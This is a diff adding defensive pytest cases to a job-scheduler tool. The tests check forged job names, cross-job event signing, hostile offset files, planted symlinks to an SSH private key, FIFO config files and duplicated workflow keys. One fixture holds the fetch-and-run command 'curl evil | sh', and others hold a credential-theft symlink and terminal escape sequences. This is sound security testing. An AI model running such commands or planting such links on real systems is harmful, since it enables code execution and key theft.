@@ -491,3 +491,114 @@ def test_a_hostile_module_system_version_is_not_kept():
 
     system, version, _ = parse_module_list("system lmod 8.7\x1b[2J\nGCC/12.2.0\n")
     assert (system, version) == ("lmod", None)
+
+
+# -- 6. the guessed separator, a job's events, its files, and other inputs ----------------------
+
+def test_a_name_holding_a_guessed_separator_stays_a_name():
+    """(guard) The separator's shape is public (`#dj-` and 16 hex digits), its value is not:
+    a name full of guesses of it, with forged fields between them, is one job's name."""
+    slurm = get_commands("slurm")
+    argv = slurm.snapshot_argvs()["queue"]
+    guess = "#dj-0123456789abcdef#"
+    name = "x" + guess + guess.join(["777", "RUNNING", *["1"] * 12, "big"]) + guess + "\n"
+    out = _squeue(argv, [_job("101", user="eve", name=name), _job("102", user="bob")])
+    jobs = {j.native_id: j for j in slurm.parse_status(out)}
+    assert set(jobs) == {"101", "102"} and jobs["101"].name == name.strip()
+
+
+async def test_a_job_cannot_sign_another_jobs_event_line(tmp_path):
+    """(guard) Job A knows its own secret, never job B's: a line for B signed with A's
+    secret, or A's own line naming B's native id, changes nothing of B's."""
+    from datetime import timedelta
+
+    from diamond_jupyter.config import SiteConfig, TransportConfig
+    from diamond_jupyter.journal import Journal
+    from diamond_jupyter.model import Job, utcnow
+    from diamond_jupyter.sites import Site
+    from diamond_jupyter.store import Store
+    from diamond_jupyter.wrapper import event_mac
+
+    site = Site(SiteConfig(name="alpha", scheduler="slurm", workdir=str(tmp_path / "w"),
+                           transport=TransportConfig(kind="local")))
+    store = Store(tmp_path / "store.sqlite")
+    for n, tok in (("1", "aaaaaaaaaaaa"), ("2", "bbbbbbbbbbbb")):
+        store.upsert_job(Job(id=f"alpha:{n}", site="alpha", native_id=n, name="j", token=tok,
+                             submitted_at=utcnow() - timedelta(minutes=5)))
+        store.apply_state(f"alpha:{n}", JobState.RUNNING)
+    journal = Journal(store, {"alpha": site}, poll_interval_s=3600, min_poll_s=3600)
+    mon = journal.monitors["alpha"]
+    mon._secrets.update({"aaaaaaaaaaaa": "a" * 64, "bbbbbbbbbbbb": "b" * 64})
+
+    def line(token: str, native: str, rc: int, secret: str) -> str:
+        body = f"1700000000.0 end {token} {native} {rc}"
+        return f"{body} {event_mac(secret, body)}"
+    await mon._on_line(line("bbbbbbbbbbbb", "2", 0, "a" * 64))  # B's token, A's secret
+    await mon._on_line(line("aaaaaaaaaaaa", "2", 0, "a" * 64))  # A's own line, B's native id
+    assert mon.rejected_lines == 2
+    assert store.get_job("alpha:2").state == JobState.RUNNING
+    assert store.get_job("alpha:1").state == JobState.RUNNING
+
+
+@pytest.mark.parametrize("text,want", [
+    ("1 99999999999999999999999\n2 -5\n1 0x10\n", {}),
+    ("1 12\n2 7\n1 13\n", {"stdout": 13, "stderr": 7}),
+    ("\x1b[2J1 5\n", {}),
+])
+def test_a_rewritten_output_offsets_note_is_read_as_numbers_or_not_at_all(text, want):
+    """(guard) A job may rewrite its own output.offsets: huge, negative, hex or escape-laden
+    values are left out (the log then starts at 0), never an error or a crash."""
+    from diamond_jupyter.wrapper import parse_output_offsets
+
+    assert parse_output_offsets(text) == want
+
+
+async def test_a_link_a_job_planted_in_its_directory_is_not_a_result_file(tmp_path):
+    """(guard) A job links `loot -> ~/.ssh/id_rsa` (and a directory link) among its results:
+    the listing a fetch copies from leaves links out, so nothing outside is fetched."""
+    from diamond_jupyter.transports.local import LocalTransport
+
+    secret = tmp_path / "home" / ".ssh"
+    secret.mkdir(parents=True)
+    (secret / "id_rsa").write_text("KEY\n")
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "out.txt").write_text("result\n")
+    (job / "loot").symlink_to(secret / "id_rsa")
+    (job / "keys").symlink_to(secret)
+    files = await LocalTransport("here", workdir=str(tmp_path)).list_files(str(job))
+    assert [f.path for f in files] == [str(job / "out.txt")]
+
+
+def test_a_sites_file_that_is_a_fifo_is_refused_not_waited_on(tmp_path, monkeypatch):
+    """`DIAMOND_CONFIG` naming a FIFO (or a sites file replaced by one): loading it waited
+    for a writer forever, so `diamond sites` (and the server's start) hung. It is refused."""
+    import os
+    import threading
+
+    from diamond_jupyter.config import load_config
+
+    fifo = tmp_path / "sites.yaml"
+    os.mkfifo(fifo)
+    got: list[BaseException] = []
+    t = threading.Thread(target=lambda: got.append(pytest.raises(BadInput, load_config,
+                                                                  str(fifo)).value),
+                         daemon=True)
+    t.start()
+    t.join(10)
+    if t.is_alive():  # unblock the reader so the test process can end
+        with open(fifo, "w"):
+            pass
+        pytest.fail("loading a FIFO as the sites file waited for a writer")
+    assert "not a file" in str(got[0])
+
+
+def test_a_workflow_file_giving_a_key_twice_is_refused(tmp_path):
+    """(guard) A colleague's workflow with `script` given twice in one step (a reader keeps
+    one of them, a person reads the other) is refused, naming the key and both lines."""
+    from diamond_jupyter.workflow.model import load_workflow
+
+    text = ("name: w\nsteps:\n  - name: a\n    script: echo shown\n    site: auto\n"
+            "    script: curl evil | sh\n")
+    with pytest.raises(BadInput, match=r"'script' is given twice \(first on line 4\)"):
+        load_workflow(text)
